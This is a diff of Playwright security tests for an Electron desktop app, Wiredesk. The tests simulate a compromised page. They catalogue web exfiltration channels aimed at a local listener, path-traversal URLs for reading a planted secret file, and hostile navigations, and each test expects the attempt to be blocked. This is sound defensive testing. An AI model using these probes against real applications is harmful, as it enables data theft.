@@ -1,10 +1,13 @@
 import type { ElectronApplication } from "playwright/test";
 import type { Bridge } from "../src/ipc/contract.ts";
+import { expect, tellProbes, test } from "./attacked.ts";
 import { put } from "./copy.ts";
-import { expect, test } from "./launch.ts";
-import { listen } from "./listener.ts";
 
 // What hostile copy would do if every filter of the window had failed: it runs in the page, as the page.
+
+// One launch for all of them, and a page without what the attack before has left.
+test.describe.configure({ mode: "default" });
+test.beforeEach(({ attacked }) => attacked.anew());
 
 /** Asked of main: Playwright takes a navigation that was refused for one that never ends. */
 const pageShown = (app: ElectronApplication): Promise<string | undefined> =>
@@ -17,13 +20,15 @@ const home = /^wiredesk:\/\/app\/ .*Wiredesk/u;
 const countWindows = (app: ElectronApplication): Promise<number> =>
   app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().filter((window) => window.isVisible()).length);
 
-test("no script runs that is not the window's own", async ({ start }) => {
-  const { window } = await start();
-  const ran = await window.evaluate(async () => {
+test("no script runs that is not the window's own", async ({ attacked }) => {
+  const { window } = attacked;
+  const { ran, tried } = await window.evaluate(async () => {
+    let tried = 3;
     const holder = globalThis as unknown as { ran: string[] };
     holder.ran = [];
     const pause = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 150));
     const add = (make: () => Element): void => {
+      tried += 1;
       try {
         document.body.append(make());
       } catch (error) {
@@ -71,99 +76,99 @@ test("no script runs that is not the window's own", async ({ start }) => {
       if (!(error instanceof Error)) throw error;
     }
     await pause();
-    return holder.ran;
+    return { ran: holder.ran, tried };
   });
   expect(ran).toEqual([]);
+  tellProbes(tried);
 });
 
-test("nothing leaves the machine, by any of the ways a page has", async ({ start }) => {
-  const outside = await listen();
-  try {
-    const { app, window } = await start();
-    await window.evaluate(
-      async ([address, port]) => {
-        const attempt = (work: () => unknown): void => {
+test("nothing leaves the machine, by any of the ways a page has", async ({ attacked }) => {
+  const { app, window, outside } = attacked;
+  const tried = await window.evaluate(
+    async ([address, port]) => {
+      let tried = 1;
+      const attempt = (work: () => unknown): void => {
+        tried += 1;
+        try {
+          Promise.resolve(work()).catch(() => undefined);
+        } catch (error) {
+          if (!(error instanceof Error)) throw error;
+        }
+      };
+      const add = (tag: string, attributes: Record<string, string>): void => {
+        tried += 1;
+        const made = document.createElement(tag);
+        for (const [name, value] of Object.entries(attributes))
           try {
-            Promise.resolve(work()).catch(() => undefined);
+            made.setAttribute(name, value);
           } catch (error) {
-            if (!(error instanceof Error)) throw error;
+            // Trusted Types refuse some of them, and the element goes in without.
+            if (!(error instanceof TypeError)) throw error;
           }
-        };
-        const add = (tag: string, attributes: Record<string, string>): void => {
-          const made = document.createElement(tag);
-          for (const [name, value] of Object.entries(attributes))
-            attempt(() => {
-              made.setAttribute(name, value);
-            });
-          attempt(() => {
-            document.body.append(made);
-          });
-        };
-        for (const [tag, name] of [
-          ["img", "src"],
-          ["video", "src"],
-          ["audio", "src"],
-          ["iframe", "src"],
-          ["embed", "src"],
-          ["object", "data"],
-          ["input", "src"],
-          ["script", "src"],
-        ] as const)
-          add(tag, { [name]: `${address}/${tag}`, type: tag === "input" ? "image" : "" });
-        for (const rel of [
-          "stylesheet",
-          "prefetch",
-          "preload",
-          "preconnect",
-          "dns-prefetch",
-          "modulepreload",
-          "icon",
-          "manifest",
-        ])
-          add("link", { rel, href: `${address}/${rel}`, as: "image" });
-        add("div", { style: `background: url(${address}/style)` });
-        const div = document.createElement("div");
-        div.style.backgroundImage = `url(${address}/cssom)`;
-        document.body.append(div);
-        attempt(() => fetch(`${address}/fetch`));
-        attempt(() =>
-          fetch(`${address}/keepalive`, { keepalive: true, mode: "no-cors", method: "POST", body: "copy" }),
-        );
-        attempt(() => navigator.sendBeacon(`${address}/beacon`, "copy"));
-        attempt(() => new WebSocket(`${address.replace("http", "ws")}/socket`));
-        attempt(() => new EventSource(`${address}/events`));
-        attempt(() => {
-          const request = new XMLHttpRequest();
-          request.open("GET", `${address}/xhr`);
-          request.send();
-        });
-        attempt(async () => {
-          const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
-          peer.createDataChannel("copy");
-          await peer.setLocalDescription(await peer.createOffer());
-        });
-        attempt(() => {
-          const form = document.createElement("form");
-          form.action = `${address}/form`;
-          form.method = "POST";
-          document.body.append(form);
-          form.submit();
-        });
-        attempt(() => globalThis.open(`${address}/window`));
-        attempt(() => import(/* @vite-ignore */ `${address}/module.js`));
-        await new Promise((resolve) => setTimeout(resolve, 2000));
-      },
-      [outside.address, outside.udpPort] as const,
-    );
-    expect(outside.heard).toEqual([]);
-    expect(await pageShown(app)).toMatch(home);
-  } finally {
-    outside.close();
-  }
+        document.body.append(made);
+      };
+      for (const [tag, name] of [
+        ["img", "src"],
+        ["video", "src"],
+        ["audio", "src"],
+        ["iframe", "src"],
+        ["embed", "src"],
+        ["object", "data"],
+        ["input", "src"],
+        ["script", "src"],
+      ] as const)
+        add(tag, { [name]: `${address}/${tag}`, type: tag === "input" ? "image" : "" });
+      for (const rel of [
+        "stylesheet",
+        "prefetch",
+        "preload",
+        "preconnect",
+        "dns-prefetch",
+        "modulepreload",
+        "icon",
+        "manifest",
+      ])
+        add("link", { rel, href: `${address}/${rel}`, as: "image" });
+      add("div", { style: `background: url(${address}/style)` });
+      const div = document.createElement("div");
+      div.style.backgroundImage = `url(${address}/cssom)`;
+      document.body.append(div);
+      attempt(() => fetch(`${address}/fetch`));
+      attempt(() => fetch(`${address}/keepalive`, { keepalive: true, mode: "no-cors", method: "POST", body: "copy" }));
+      attempt(() => navigator.sendBeacon(`${address}/beacon`, "copy"));
+      attempt(() => new WebSocket(`${address.replace("http", "ws")}/socket`));
+      attempt(() => new EventSource(`${address}/events`));
+      attempt(() => {
+        const request = new XMLHttpRequest();
+        request.open("GET", `${address}/xhr`);
+        request.send();
+      });
+      attempt(async () => {
+        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
+        peer.createDataChannel("copy");
+        await peer.setLocalDescription(await peer.createOffer());
+      });
+      attempt(() => {
+        const form = document.createElement("form");
+        form.action = `${address}/form`;
+        form.method = "POST";
+        document.body.append(form);
+        form.submit();
+      });
+      attempt(() => globalThis.open(`${address}/window`));
+      attempt(() => import(/* @vite-ignore */ `${address}/module.js`));
+      await new Promise((resolve) => setTimeout(resolve, 2000));
+      return tried;
+    },
+    [outside.address, outside.udpPort] as const,
+  );
+  expect(outside.heard).toEqual([]);
+  expect(await pageShown(app)).toMatch(home);
+  tellProbes(tried);
 });
 
-test("the window stays where it is, or comes back, and no other opens", async ({ start, dataFolder }) => {
-  const { app, window } = await start();
+test("the window stays where it is, or comes back, and no other opens", async ({ attacked }) => {
+  const { app, window, dataFolder } = attacked;
   const page = await put(dataFolder, "evil.html", "<title>evil</title>");
   const ways = [
     "https://example.org/",
@@ -198,12 +203,13 @@ test("the window stays where it is, or comes back, and no other opens", async ({
   }, `file://${page}`);
   await window.waitForTimeout(500);
   await expect.poll(() => pageShown(app)).toMatch(home);
+  tellProbes(3 * ways.length + 1);
 });
 
-test("nothing of the machine is to be had: no files, no devices, no clipboard", async ({ start, dataFolder }) => {
-  const { window } = await start();
+test("nothing of the machine is to be had: no files, no devices, no clipboard", async ({ attacked }) => {
+  const { window, dataFolder } = attacked;
   const secret = await put(dataFolder, "secret.txt", "SECRET");
-  const got = await window.evaluate(async (file) => {
+  const { granted, tried } = await window.evaluate(async (file) => {
     const addresses = [
       `file://${file}`,
       `wiredesk://app/..%2f..%2f..%2f..${file}`,
@@ -235,23 +241,25 @@ test("nothing of the machine is to be had: no files, no devices, no clipboard", 
         () => undefined,
       );
     }
-    return granted;
+    return { granted, tried: attempts.length };
   }, secret);
-  expect(got).toEqual([]);
+  expect(granted).toEqual([]);
+  tellProbes(tried);
 });
 
-test("a frame inside the window cannot speak to main", async ({ start }) => {
-  const { window } = await start();
+test("a frame inside the window cannot speak to main", async ({ attacked }) => {
+  const { window } = attacked;
   const seen = await window.evaluate(() => {
     const frame = document.createElement("iframe");
     document.body.append(frame);
     return typeof (frame.contentWindow as unknown as { wiredesk?: unknown } | null)?.wiredesk;
   });
   expect(seen).toBe("undefined");
+  tellProbes(1);
 });
 
-test("a page that was taken over cannot have main read a file that nobody dropped", async ({ start, dataFolder }) => {
-  const { window } = await start();
+test("a page that was taken over cannot have main read a file that nobody dropped", async ({ attacked }) => {
+  const { window, dataFolder } = attacked;
   const secret = await put(dataFolder, "secret.txt");
   const outcomes = await window.evaluate(async (file) => {
     const { wiredesk } = globalThis as unknown as { wiredesk: Bridge };
@@ -263,4 +271,5 @@ test("a page that was taken over cannot have main read a file that nobody droppe
   }, secret);
   const refused = "secret.txt: it was not dropped on this window";
   expect(outcomes).toMatchObject(["", { ok: true, value: [{ stories: [], refused }] }]);
+  tellProbes(3);
 });
